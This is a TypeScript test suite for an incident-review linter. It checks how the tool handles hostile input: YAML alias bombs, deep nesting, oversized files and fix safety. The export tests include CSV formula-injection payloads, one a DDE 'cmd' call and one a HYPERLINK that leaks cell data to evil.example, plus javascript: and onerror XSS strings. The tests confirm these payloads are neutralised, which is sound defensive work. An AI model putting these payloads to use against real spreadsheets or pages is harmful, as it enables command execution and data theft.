/**
 * Hostile and broken input (issue 17): each input that once took unbounded time, broke a file on
 * --fix, gave wrong findings or made a spreadsheet run a formula, as a test that holds. Timing is
 * not asserted here (see `npm run bench`, section "worst cases"); these tests check what the user
 * sees: one clear finding, the same model, a file that still parses.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { analyze, fixText, parseReview, summarize, type Finding } from '../../src/core';
import { main } from '../../src/cli/main';
import { actionsToCsv, actionsToJson, actionsToMarkdown, toExported } from '../../src/core/export/actions';
import { parseConfig } from '../../src/core';

function cli(args: string[], cwd: string) {
  let out = '', err = '';
  const code = main(args, { out: s => { out += s + '\n'; }, err: s => { err += s + '\n'; }, isTTY: false, cwd });
  return { code, out, err };
}

const FM = 'id: INC-2026-017\ntitle: Queue stalls\nstatus: draft\nseverity: SEV3\nmajor: false\n';

describe('hostile input: front matter', () => {
  it('a YAML alias bomb is refused with one finding that says why, and nothing about missing keys', () => {
    const bomb = `---\n${FM}a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n---\n# Queue stalls\n`;
    const { findings } = analyze(bomb);
    const onFrontMatter = findings.filter(f => f.range.start.line <= 11);
    assert.deepEqual(onFrontMatter.map(f => f.rule), ['front-matter-syntax'], onFrontMatter.map(f => f.message).join('\n'));
    assert.match(onFrontMatter[0].message, /not read: .*alias/);
    assert.ok(!findings.some(f => /no "id"|no "title"|major incident/.test(f.message)));
  });

  it('a front matter of 20,000 keys is refused for its size, with only that said', () => {
    const text = `---\n${FM}${Array.from({ length: 20_000 }, (_, i) => `key${i}: value\n`).join('')}---\n# T\n`;
    const { findings, review } = analyze(text);
    const fm = findings.filter(f => f.rule.startsWith('front-matter') || ['major-incident', 'required-roles', 'duplicate-review-id'].includes(f.rule));
    assert.deepEqual(fm.map(f => f.rule), ['front-matter-syntax']);
    assert.match(fm[0].message, /not read: it is \d+ KB, over the 128 KB/);
    assert.deepEqual(review.frontMatter?.data, {});
  });

  it('duplicate keys are found (on the repeated key) in a front matter of thousands of keys', () => {
    const keys = Array.from({ length: 5_000 }, (_, i) => `key${i}: value\n`).join('');
    const text = `---\n${FM}${keys}key17: again\nattendees:\n  - name: Ana\n    name: Bo\n---\n# T\n`;
    const dups = parseReview(text).parseFindings.filter(f => f.rule === 'front-matter-syntax');
    assert.deepEqual(dups.map(f => f.range.start.line), [1 + 5 + 5_000, 1 + 5 + 5_000 + 3]);
    assert.ok(dups.every(f => /keys must be unique/.test(f.message)));
  });

  it('lone-CR line endings are read like LF: no YAML errors, the same data and positions', () => {
    const lf = `---\n${FM}services:\n  - queue\n---\n# Queue stalls\n\n## Timeline\n\n- 2026-03-01 10:00 UTC — queue stalls\n`;
    const cr = lf.replace(/\n/g, '\r');
    const a = analyze(lf); const b = analyze(cr);
    assert.deepEqual(b.findings.filter(f => f.rule === 'front-matter-syntax'), []);
    assert.deepEqual(b.review.frontMatter?.data, a.review.frontMatter?.data);
    assert.deepEqual(b.findings.map(f => [f.rule, f.range]), a.findings.map(f => [f.rule, f.range]));
    assert.equal(b.review.eol, '\r', 'edits keep the file\'s own line break');
  });
});

describe('hostile input: nesting', () => {
  const head = `---\n${FM}---\n# Queue stalls\n\n`;
  const depthFindings = (findings: Finding[]) =>
    findings.filter(f => /not analysed beyond depth/.test(f.message));

  it('4,000 nested list markers in one section: one info finding, no rule fails, the items before it are read', () => {
    const text = `${head}## Action items\n\n- [ ] CAP-1: Add an alert on queue depth over 10,000 for 5 minutes\n  - owner: @ana\n\n${'* '.repeat(4000)}deep\n\n${Array.from({ length: 4000 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).slice(0, 300).join('\n')}\n`;
    const { findings, review } = analyze(text);
    assert.ok(!findings.some(f => /failed on this document/.test(f.message)), findings.map(f => f.message).join('\n'));
    const deep = depthFindings(findings);
    assert.equal(deep.length, 1);
    assert.equal(deep[0].severity, 'info');
    assert.equal(deep[0].rule, 'file-too-large');
    assert.match(deep[0].message, /not analysed beyond depth 20/);
    assert.equal(deep[0].range.start.line, text.split('\n').findIndex(l => l.startsWith('* * *')));
    assert.equal(review.actions[0].id, 'CAP-1');
    assert.equal(review.actions[0].fields.get('owner')?.value, '@ana');
    // the line scan and the remark fallback read the capped section alike
    const viaRemark = analyze(text, { markdown: 'remark' }).review;
    assert.deepEqual(review.actions.map(a => [a.id, a.line, a.title]), viaRemark.actions.map(a => [a.id, a.line, a.title]));
  });

  it('"> " × 40,000, a blank line and <div>: analysed (the remark fallback stops at depth 20), one info finding', () => {
    const text = `${head}## Summary\n\n${'> '.repeat(40_000)}\n\n<div>\n\nThe queue stalled.\n`;
    const { findings, review } = analyze(text);
    assert.equal(depthFindings(findings).length, 1);
    const tree = review.section('summary')!.tree();
    let depth = 0;
    const walk = (n: { children?: unknown[] }, d: number) => { depth = Math.max(depth, d); for (const c of (n.children ?? []) as never[]) walk(c, d + 1); };
    walk(tree, 0);
    assert.ok(depth <= 22, `tree depth ${depth}`);
  });

  it('ordinary nesting (eight levels, quotes in lists, code indented deep in a fence) is not capped', () => {
    const list = Array.from({ length: 8 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n');
    const text = `${head}## Summary\n\n${list}\n\n> > > quoted three deep\n\n\`\`\`json\n${'    '.repeat(9)}"deep": 1\n\`\`\`\n`;
    assert.deepEqual(depthFindings(analyze(text).findings), []);
  });
});

describe('hostile input: many action items', () => {
  const head = `---\n${FM}---\n# Queue stalls\n\n## Action items\n\n`;

  it('vague items without an ID among thousands with one: each rewrite names the next free ID (found once for the review, not once per item)', () => {
    const items = Array.from({ length: 1000 }, (_, i) => (i % 2 ? `- [ ] Improve the process for team ${i}\n` : `- [ ] CAP-${i}: Add a retry to the consumer\n`)).join('');
    const vague = analyze(head + items).findings.filter(f => f.rule === 'vague-action');
    assert.equal(vague.length, 500);
    for (const f of vague) assert.match(f.fixes![0].edits[0].newText, /^- \[ \] CAP-999: /);
  });

  it('past the first 2,000 items, vague-action judges no more: one info finding on the first item left says how many were not checked', () => {
    const text = head + Array.from({ length: 2003 }, (_, i) => `- [ ] Improve the process for team ${i}\n`).join('');
    const vague = analyze(text).findings.filter(f => f.rule === 'vague-action');
    assert.equal(vague.filter(f => f.severity === 'warning').length, 2000);
    const info = vague.filter(f => f.severity === 'info');
    assert.equal(info.length, 1);
    assert.match(info[0].message, /^Not checked for vague actions: the 3 action items from here on \(this rule judges the first 2,000 of a review\)/);
    assert.equal(info[0].range.start.line, text.split('\n').indexOf('- [ ] Improve the process for team 2000'));
    assert.deepEqual(info[0].fixes ?? [], []);
  });
});

describe('hostile input: not text, too large', () => {
  const base = `---\n${FM.replace('major: false', 'major: true\nmajor_rationale: checkout down for an hour\napprover: "@cto"')}attendees:\n  - name: Ana\n    role: incident-commander\n---\n# Queue stalls\n\n`;

  it('a NUL byte after the first 8 KB still means the file is not text: one clear error', () => {
    const text = `${base}## Summary\n\n${'The queue stalled for an hour while the consumer restarted.\n'.repeat(400)}\0tail\n`;
    assert.ok(text.indexOf('\0') > 8192);
    const { findings } = analyze(text);
    assert.deepEqual(findings.map(f => f.rule), ['unreadable-file']);
  });

  it('a review over the size limit is not told it has no action items: the finding names the checks it skipped', () => {
    const actions = '## Action items\n\n- [ ] CAP-1: Alert on queue depth over 10,000 for 5 minutes\n  - owner: @ana\n- [ ] CAP-2: Cap consumer restarts at 3 per minute\n  - owner: @bo\n';
    const filler = `## Appendix\n\n${'A line of the consumer log, kept for the record of what the service printed.\n'.repeat(70_000)}`;
    const text = `${base}${actions}\n${filler}`;
    assert.ok(text.length > 5_000_000);
    const { findings } = analyze(text);
    assert.ok(!findings.some(f => f.rule === 'no-action-items'), 'no "no action items"');
    const big = findings.filter(f => f.rule === 'file-too-large');
    assert.equal(big.length, 1);
    assert.match(big[0].message, /Not checked: .*no-action-items/);
    assert.match(big[0].message, /vague-action/);
    assert.doesNotMatch(big[0].message, /Not checked: .*front-matter-schema/);
    // the register still lists both (the workspace index reads the items of any size of file)
    assert.deepEqual(summarizeIds(text), ['CAP-1', 'CAP-2']);
  });
});

function summarizeIds(text: string): string[] {
  return summarize('file:///big.pir.md', text).actions.map(a => a.id);
}

describe('hostile input: suppression comments', () => {
  const review = (extra: string) => `---\n${FM}---\n# Queue stalls\n\n## Action items\n\n${extra}\n- [ ] CAP-1: Look into the queue\n  - owner: @ana\n`;
  const incomplete = (text: string) => analyze(text).findings.filter(f => f.rule === 'action-fields').length;

  it('a directive in inline code or a fenced code block turns nothing off', () => {
    assert.equal(incomplete(review('')), 1, 'the incomplete action is found');
    assert.equal(incomplete(review('Write `<!-- pir-disable-file action-fields -->` to silence a rule.\n')), 1);
    assert.equal(incomplete(review('Spans can run ``across\n<!-- pir-disable-file -->\nlines``.\n')), 1);
    assert.equal(incomplete(review('```markdown\n<!-- pir-disable-file action-fields -->\n```\n')), 1);
    assert.equal(incomplete(review('> ~~~\n> <!-- pir-disable-file -->\n> ~~~\n')), 1);
  });

  it('a real comment is obeyed: on its own line, inline after text, or after an unmatched backtick', () => {
    assert.equal(incomplete(review('<!-- pir-disable-file action-fields -->\n')), 0);
    assert.equal(incomplete(review('Noted. <!-- pir-disable-file action-fields -->\n')), 0);
    assert.equal(incomplete(review('A lone ` backtick <!-- pir-disable-file action-fields -->\n')), 0);
    assert.equal(incomplete(review('<!-- pir-disable-next-line action-fields -->\n')), 1, 'the next line is the blank line, not the item');
    assert.equal(incomplete(review('<!-- pir-disable-next-line action-fields -->').replace('-->\n\n- [ ]', '-->\n- [ ]')), 0);
  });
});

describe('hostile input: fixes never break the file', () => {
  let tmp: string;
  beforeEach(() => { tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'pir-hostile-')); });
  afterEach(() => fs.rmSync(tmp, { recursive: true, force: true }));
  const head = (extra = '') => `---\n${FM}${extra}---\n# Queue stalls\n\n`;
  const timeline = '## Timeline\n\n- 2026-03-01 10:00 UTC — consumer lag alert [detected]\n- 2026-03-01 09:50 UTC — queue stalls [started]\n';

  it('"make it a list" on a multi-line value edits the YAML node: the file still parses, and --fix adds nothing twice', () => {
    const text = head('services:\n  queue one\n  - two\n') + timeline;
    const f = analyze(text).findings.find(x => x.rule === 'front-matter-schema' && /"services"/.test(x.message))!;
    assert.ok(f.fixes!.length >= 1);
    assert.ok(f.fixes!.every(x => !x.isPreferred), 'not certain: offered, not applied by --fix');
    const chosen = fixText(text, t => analyze(t)).text;
    // apply the offered fix by hand: the value becomes a list and the YAML stays valid
    const lines = text.split('\n');
    const e = f.fixes![0].edits[0];
    const edited = [...lines.slice(0, e.range.start.line), lines[e.range.start.line].slice(0, e.range.start.character) + e.newText + lines[e.range.end.line].slice(e.range.end.character), ...lines.slice(e.range.end.line + 1)].join('\n');
    const after = analyze(edited);
    assert.deepEqual(after.findings.filter(x => x.rule === 'front-matter-syntax'), []);
    assert.deepEqual(after.review.frontMatter!.data.services, ['queue one - two']);
    for (const t of [chosen, edited]) {
      const again = fixText(t, x => analyze(x)).text;
      assert.equal((again.match(/^detected:/gm) ?? []).length <= 1, true, 'detected: once at most');
      assert.equal(fixText(again, x => analyze(x)).text, again, '--fix twice changes nothing the second time');
    }
  });

  it('a one-line value is made a list by --fix; a value with commas is offered both ways', () => {
    const one = analyze(head('services: queue-consumer\n')).findings.find(x => /"services"/.test(x.message))!;
    assert.equal(one.fixes![0].isPreferred, true);
    assert.equal(one.fixes![0].edits[0].newText, '[queue-consumer]');
    const two = analyze(head('third_parties: Fastly, Stripe payments\n')).findings.find(x => /"third_parties"/.test(x.message))!;
    assert.deepEqual(two.fixes!.map(x => [x.edits[0].newText, !!x.isPreferred]), [['[Fastly, Stripe payments]', false], ['["Fastly, Stripe payments"]', false]]);
  });

  it('fixes whose result parses worse than the input are dropped, with a finding that says so', () => {
    const text = head() + timeline;
    // a stand-in for a broken fix: its edit leaves the front matter unparseable
    const broken = (t: string) => {
      const r = analyze(t);
      if (!t.includes('tags: [')) r.findings.push({ rule: 'x', severity: 'warning', message: 'x', range: { start: { line: 1, character: 0 }, end: { line: 1, character: 0 } }, fixes: [{ title: 'break', isPreferred: true, edits: [{ range: { start: { line: 1, character: 0 }, end: { line: 1, character: 0 } }, newText: 'tags: [\n' }] }] });
      return r;
    };
    const r = fixText(text, broken);
    assert.ok(!r.text.includes('tags: ['), 'the breaking pass is not kept');
    assert.ok(r.dropped);
    assert.match(r.dropped!.message, /not applied: together they made part of the file unreadable/);
  });

  it('500 duplicate action IDs get 500 distinct new IDs in one --fix, which then has nothing left to do', () => {
    const items = Array.from({ length: 500 }, (_, i) => `- [ ] CAP-7: Cap consumer restarts at ${i + 1} per minute\n  - owner: @ana\n`).join('');
    const file = path.join(tmp, 'dups.pir.md');
    fs.writeFileSync(file, head() + timeline + '\n## Action items\n\n' + items);
    cli(['lint', '--fix', file], tmp);
    const ids = parseReview(fs.readFileSync(file, 'utf8')).actions.map(a => a.id);
    assert.equal(ids.length, 500);
    assert.equal(new Set(ids).size, 500, 'all distinct');
    assert.ok(!analyze(fs.readFileSync(file, 'utf8')).findings.some(f => f.rule === 'duplicate-action-id'));
    const before = fs.readFileSync(file, 'utf8');
    cli(['lint', '--fix', file], tmp);
    assert.equal(fs.readFileSync(file, 'utf8'), before, 'a second --fix changes nothing');
  });

  it('--fix on one file of a folder does not rename an ID to one a sibling review uses', () => {
    const sibling = path.join(tmp, 'other.pir.md');
    fs.writeFileSync(sibling, head().replace('INC-2026-017', 'INC-2026-018') + '## Action items\n\n- [ ] CAP-2: Alert on consumer lag\n  - owner: @bo\n');
    const file = path.join(tmp, 'mine.pir.md');
    fs.writeFileSync(file, head() + '## Action items\n\n- [ ] CAP-1: Alert on queue depth\n  - owner: @ana\n- [ ] CAP-1: Cap consumer restarts\n  - owner: @ana\n');
    const r = cli(['lint', '--fix', file], tmp);
    const ids = parseReview(fs.readFileSync(file, 'utf8')).actions.map(a => a.id);
    assert.deepEqual(ids, ['CAP-1', 'CAP-3'], r.out);
  });
});

describe('hostile input: exports', () => {
  const action = (title: string, owner = '@ana') => ({ id: 'CAP-1', title, status: 'open' as const, owner, due: '', type: '', domain: '', validation: '', tracking: '', evidence: '', depends: '', line: 0, overdue: false, review: 'INC-1', reviewTitle: '', file: 'a.pir.md' });
  const csvCell = (title: string, owner?: string) => {
    const csv = actionsToCsv(toExported([action(title, owner)]));
    // the title column, as a spreadsheet reads it back (csv-stringify quotes; undo that)
    const row = csv.split('\n')[1];
    return /^CAP-1,("(?:[^"]|"")*"|[^,]*),/.exec(row)![1].replace(/^"|"$/g, '').replace(/""/g, '"');
  };

  it('CSV neutralises every cell a spreadsheet would evaluate, and leaves plain numbers and text alone', () => {
    for (const evil of ["-1+cmd|' /C calc'!A0", '-0+HYPERLINK("https://evil.example/?x="&A1,"click")', '=1+1', '+1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1+1', '＠SUM(1)', ' =1+1']) {
      assert.equal(csvCell(evil), `'${evil}`, JSON.stringify(evil));
    }
    for (const fine of ['-1', '+2.5', '1e3', 'Cap restarts at -1 per minute', 'CAP-7', '2026-03-01']) assert.equal(csvCell(fine), fine, fine);
    const owner = actionsToCsv(toExported([action('x', '@platform-team')]));
    assert.match(owner, /,'@platform-team,/);
  });

  it('Markdown cells show their text as written: no links, images, HTML or broken rows', () => {
    const md = actionsToMarkdown(toExported([action('[click](javascript:alert(1)) <img src=x onerror=alert(1)> a | b\nnext *row*')]));
    const row = md.split('\n')[2];
    assert.ok(!/(^|[^\\])[[<]/.test(row.replace(/^\| /, '')), row);
    assert.equal(md.trim().split('\n').length, 3, 'one row');
    assert.match(row, /\\\[click\\\]\(javascript:alert\(1\)\) \\<img/, 'the brackets escaped: no link');
  });

  it('JSON keeps every string exactly (escaping is JSON.stringify\'s)', () => {
    const title = '"quoted" \\ back \u2028 line \u0000 nul </script>';
    assert.equal(JSON.parse(actionsToJson(toExported([action(title)])))[0].title, title);
  });
});

describe('hostile input: .pir.yaml and the CLI', () => {
  it('unknown rule ids, invalid zones and unknown keys are findings on their line, with the closest valid name', () => {
    const { config, findings } = parseConfig('rules:\n  vague-actions: off\n  no-such-check: warning\nrequiredRole: [scribe]\ndefaultTimezone: Europe/Berln\n');
    const byLine = findings.map(f => [f.range.start.line, f.message]);
    assert.deepEqual(byLine.map(x => x[0]).sort(), [1, 2, 3, 4]);
    assert.match(String(byLine.find(x => x[0] === 1)![1]), /"vague-actions" is not a rule.*Did you mean "vague-action"\?/);
    assert.doesNotMatch(String(byLine.find(x => x[0] === 2)![1]), /Did you mean/);
    assert.match(String(byLine.find(x => x[0] === 3)![1]), /Unknown setting "requiredRole".*Did you mean "requiredRoles"\?/);
    assert.match(String(byLine.find(x => x[0] === 4)![1]), /"Europe\/Berln" is not a time zone.*Did you mean "Europe\/Berlin"\?/);
    assert.equal(config.defaultTimezone, undefined);
    assert.deepEqual(config.rules, {});
    assert.match(parseConfig('defaultTimezone: IST\n').findings[0].message, /ambiguous/);
    assert.deepEqual(parseConfig('defaultTimezone: Europe/Berlin\nrules:\n  vague-action: off\n').findings, []);
  });

  it('a missing --config file is one line on stderr, exit code 2', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pir-hostile-'));
    try {
      fs.writeFileSync(path.join(dir, 'a.pir.md'), `---\n${FM}---\n# T\n`);
      for (const args of [['lint', '--config', 'nope.yaml', 'a.pir.md'], ['report', '--config', 'nope.yaml', 'a.pir.md']]) {
        const r = cli(args, dir);
        assert.equal(r.code, 2, args.join(' '));
        assert.equal(r.err.trim().split('\n').length, 1, r.err);
        assert.match(r.err, /^pir: .*nope\.yaml.*\n$/);
        assert.doesNotMatch(r.err, /\bat \S+:\d+/, 'no stack trace');
      }
      const r = cli(['actions', '--output', path.join(dir, 'missing', 'out.csv'), '--format', 'csv', 'a.pir.md'], dir);
      assert.equal(r.code, 2);
      assert.match(r.err, /^pir: .*out\.csv.*\n$/);
      assert.equal(r.err.trim().split('\n').length, 1);
    } finally { fs.rmSync(dir, { recursive: true, force: true }); }
  });
});

describe('hostile input: big timelines and broken front matter under --fix', () => {
  it('a 10,000-row timeline table in the timezone key\'s zone: every row read and converted, across the DST change', function () {
    this.timeout(60_000);
    const rows: string[] = [];
    for (let i = 0; i < 10_000; i++) {
      const minute = i % 60; const hour = Math.floor(i / 60) % 24; const day = 25 + Math.floor(i / 1440);
      rows.push(`| 2026-03-${day} ${String(hour).padStart(2, '0')}:${String(minute).padStart(2, '0')} | consumer ${i} restarted |`);
    }
    const text = `---\n${FM}timezone: Europe/Berlin\n---\n# Queue stalls\n\n## Timeline\n\n| Time | Event |\n|---|---|\n${rows.join('\n')}\n`;
    assert.ok(text.length < 1_000_000);
    const { review } = analyze(text, { now: new Date('2026-04-01T00:00:00Z') });
    assert.equal(review.timeline.length, 10_000);
    assert.ok(review.timeline.every(e => e.utc !== undefined));
    // 25 March, 10:00 in Berlin is CET (UTC+1); 30 March, 10:00 is CEST (UTC+2)
    const at = (d: number, h: number) => review.timeline[(d - 25) * 1440 + h * 60].utc;
    assert.equal(new Date(at(25, 10)!).toISOString(), '2026-03-25T09:00:00.000Z');
    assert.equal(new Date(at(30, 10)!).toISOString(), '2026-03-30T08:00:00.000Z');
  });

  it('a front matter that does not parse gets no key added by --fix (it once appended detected: on every pass)', () => {
    const text = `---\n${FM}services: [queue\n---\n# Queue stalls\n\n## Timeline\n\n- 2026-03-01 09:50 UTC — queue stalls [started]\n- 2026-03-01 10:00 UTC — lag alert [detected]\n`;
    const r = fixText(text, t => analyze(t));
    assert.equal(r.text.match(/^(started|detected):/gm), null);
    assert.equal(r.dropped, undefined);
  });
});
